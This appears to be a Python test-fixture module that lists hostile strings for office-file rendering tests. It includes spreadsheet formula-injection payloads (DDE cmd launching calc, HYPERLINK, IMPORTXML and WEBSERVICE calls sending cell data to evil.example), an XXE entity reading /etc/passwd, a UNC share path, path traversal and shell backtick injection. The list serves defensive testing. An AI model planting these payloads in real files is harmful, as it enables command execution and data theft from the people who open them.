"""What a case, or a file that is brought in, may say, and what must come out of it as characters:
on every platform, and in every file. One list for all tests of surfaces.
"""

from tests.cards.renderers.hostile import HOSTILE as IN_CHAT

IN_FILES: tuple[str, ...] = (
    # What Excel, LibreOffice and a CSV file opened in them take for a formula
    '=HYPERLINK("http://evil.example/?"&A1,"給付金はこちら")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
    '=WEBSERVICE("http://evil.example/")',
    '=DDE("cmd";"/C calc";"x")',
    "{=SUM(A1:A9)}",
    "\t=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋cmd",
    "－1+1",
    "＠SUM(1)",
    "+81-83-231-1111",
    "-5%",
    "1,=1+1",
    '","=1+1',
    "a\n=1+1",
    "%0A=1+1",
    # What a spreadsheet reads as something else than was written
    "#REF!",
    "#N/A",
    "TRUE",
    "00123",
    "1E5",
    "3-4",
    "2026/13/45",
    "'=1+1",
    "_x0041_と_x000D_",
    # What a presentation's and a workbook's XML, fields and placeholders could be broken by
    "<a:hlinkClick r:id='rId1'/>",
    "</a:t></a:r></a:p>",
    "&lt;a:t&gt; &amp; &#x3C;",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
    "&e;",
    "{slidenum} ‹#› <#>",
    "ppaction://program?calc.exe",
    "file:///etc/passwd",
    "\\\\evil.example\\share\\x",
    # File names and format strings
    "../../etc/passwd",
    "%s %(name)s {0} {name.__class__} $HOME `id`",
    "\x0c改頁\x0b縦タブ\x1f",
)
"""Besides what is meant for a chat, which goes into files as well."""

HOSTILE: tuple[str, ...] = tuple(dict.fromkeys((*IN_CHAT, *IN_FILES)))

FORMULAS: tuple[str, ...] = tuple(
    text for text in HOSTILE if text.startswith(("=", "+", "-", "@", "\t", "＝", "＋", "－", "＠"))
)
"""What an office program would calculate if it were written as it is."""
